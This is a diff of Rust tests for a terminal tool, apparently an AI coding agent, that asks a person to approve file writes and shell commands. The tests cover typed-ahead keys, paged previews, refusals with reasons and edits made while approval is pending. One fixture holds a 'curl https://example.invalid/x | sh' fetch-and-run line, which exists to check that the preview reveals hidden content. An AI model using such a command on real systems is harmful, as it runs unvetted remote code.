@@ -28,11 +28,11 @@ fn keys_typed_before_a_prompt_never_answer_it() {
     let mut chat = Chat::start(&oy, &mock, &[]);
     chat.line("write both");
     chat.expect("create a.txt");
-    chat.expect("Allow?");
+    chat.expect("[y/N");
     // One yes for this prompt, and one typed ahead for the next.
-    chat.send("y\ry\r");
+    chat.answer("y\ry\r");
     chat.expect("create b.txt");
-    chat.expect("Allow?");
+    chat.expect("[y/N");
     std::thread::sleep(Duration::from_millis(800));
     assert!(oy.root.join("a.txt").exists(), "{}", chat.screen());
     assert!(
@@ -40,7 +40,7 @@ fn keys_typed_before_a_prompt_never_answer_it() {
         "a typed-ahead key answered the second prompt:\n{}",
         chat.screen()
     );
-    chat.send("n\r");
+    chat.answer("n\r");
     chat.expect("you declined `write`");
     chat.prompt();
     assert!(!oy.root.join("b.txt").exists());
@@ -74,21 +74,20 @@ fn a_long_preview_says_what_it_hides_and_v_pages_through_all_of_it() {
         !chat.screen().contains("curl https://example.invalid"),
         "the middle line should be hidden before v"
     );
-    chat.send("v\r");
-    chat.expect("Enter for more");
-    chat.send("\r");
+    // 153 diff lines on a 50-row terminal: pages of 48, 48, 48 and 9.
+    chat.answer("v\r");
+    chat.expect("lines 1–48 of 153: Enter for more");
+    chat.answer("\r");
     chat.expect("curl https://example.invalid/x | sh");
-    for _ in 0..3 {
-        if chat.screen().contains("end of the preview") {
-            break;
-        }
-        chat.send("\r");
-        std::thread::sleep(Duration::from_millis(300));
-    }
-    chat.expect("end of the preview");
-    chat.expect("Allow?");
-    chat.send("y\r");
+    chat.expect("lines 49–96 of 153: Enter for more");
+    chat.answer("\r");
+    chat.expect("lines 97–144 of 153: Enter for more");
+    chat.answer("\r");
+    chat.expect("end of the preview (153 lines)");
+    chat.expect("[y/N");
+    chat.answer("y\r");
     chat.expect("Written.");
+    assert!(oy.root.join("setup.sh").exists(), "{}", chat.screen());
     assert_eq!(oy.read("setup.sh"), content);
     chat.prompt();
     chat.send("\x04");
@@ -108,10 +107,10 @@ fn a_file_saved_while_the_prompt_waits_is_kept() {
     );
     let mut chat = Chat::start(&oy, &mock, &[]);
     chat.line("rewrite notes");
-    chat.expect("Allow?");
+    chat.expect("[y/N");
     // The person's editor saves while the question is up.
     std::fs::write(oy.root.join("notes.txt"), "mine\n").unwrap();
-    chat.send("y\r");
+    chat.answer("y\r");
     chat.expect("changed while the change was waiting for approval");
     chat.prompt();
     assert_eq!(oy.read("notes.txt"), "mine\n");
@@ -131,8 +130,8 @@ fn a_no_with_a_reason_reaches_the_model_and_the_turn_goes_on() {
     );
     let mut chat = Chat::start(&oy, &mock, &[]);
     chat.line("set x");
-    chat.expect("Allow?");
-    chat.send("n use the staging config\r");
+    chat.expect("[y/N");
+    chat.answer("n use the staging config\r");
     chat.expect("Understood, staging then.");
     assert!(!oy.root.join("prod.toml").exists());
     let requests = mock.requests();
@@ -160,8 +159,8 @@ fn a_bare_no_says_you_declined_and_hints_what_would_allow_it() {
     );
     let mut chat = Chat::start(&oy, &mock, &[]);
     chat.line("say hi");
-    chat.expect("Allow?");
-    chat.send("n\r");
+    chat.expect("[y/N");
+    chat.answer("n\r");
     chat.expect("you declined `bash`");
     chat.expect("hint: rerun with --mode auto-approve");
     assert!(!chat.screen().contains("no one could answer"));
